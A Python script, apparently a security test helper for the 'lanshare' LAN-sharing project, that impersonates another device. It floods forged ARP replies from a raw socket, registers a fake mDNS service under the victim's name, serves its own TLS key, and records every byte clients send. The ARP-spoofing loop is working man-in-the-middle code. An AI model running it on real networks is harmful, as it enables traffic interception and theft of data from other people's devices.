"""Run on a host of a LAN: pretend to be another device. Forges its mDNS and its ARP, answers on its port with a key of
its own, and writes down every byte that it is told. Ends when its standard input does.
"""

from __future__ import annotations

import contextlib
import ipaddress
import secrets
import socket
import struct
import sys
import threading
from pathlib import Path

from zeroconf import InterfaceChoice, IPVersion, ServiceInfo, Zeroconf

from lanshare.net import tls
from lanshare.trust.identity import Identity
from lanshare.wire import codec
from lanshare.wire import frames as f

SERVICE = "_lanshare._tcp.local."


def arp(interface: str, mine: bytes, claimed: str, stop: threading.Event) -> None:
    """Tell everybody again and again that an address is ours."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((interface, 0x0806))
        address = ipaddress.ip_address(claimed).packed
        head = b"\xff" * 6 + mine + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2)
        while not stop.wait(0.05):
            raw.send(head + mine + address + b"\xff" * 6 + address)


def main() -> int:
    """Arguments: interface, address to take over, short id and name to claim, a folder to write to."""
    interface, claimed, short, name, folder = sys.argv[1:]
    mine = bytes.fromhex(Path(f"/sys/class/net/{interface}/address").read_text().strip().replace(":", ""))
    stop = threading.Event()
    threading.Thread(target=arp, args=(interface, mine, claimed, stop), daemon=True).start()
    key = Path(folder) / "mallory.pem"
    key.write_bytes(Identity.create().pem)
    context = tls.acceptor_context(key)
    zeroconf = Zeroconf(interfaces=InterfaceChoice.All, ip_version=IPVersion.V4Only)
    zeroconf.register_service(
        ServiceInfo(SERVICE, f"{short}.{SERVICE}", addresses=[ipaddress.ip_address(claimed).packed], port=17717,
                    properties={"v": "1", "id": short, "name": name, "kind": "laptop"},
                    server=f"lanshare-{short}.local."),
        cooperating_responders=True,
    )
    told = Path(folder) / "told"
    told.write_bytes(b"")
    came = Path(folder) / "came"

    def serve(plain: socket.socket) -> None:
        plain.settimeout(3.0)
        came.touch()
        with contextlib.suppress(OSError), context.wrap_socket(plain, server_side=True) as sock:
            sock.sendall(codec.encode(f.Challenge(secrets.token_bytes(32), 1, 1)))
            while data := sock.recv(65536):
                with told.open("ab") as file:
                    file.write(data)

    server = socket.create_server(("0.0.0.0", 17717))

    def accept() -> None:
        with contextlib.suppress(OSError):
            while True:
                serve(server.accept()[0])

    threading.Thread(target=accept, daemon=True).start()
    print("ready", flush=True)
    sys.stdin.read()
    stop.set()
    server.close()
    zeroconf.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
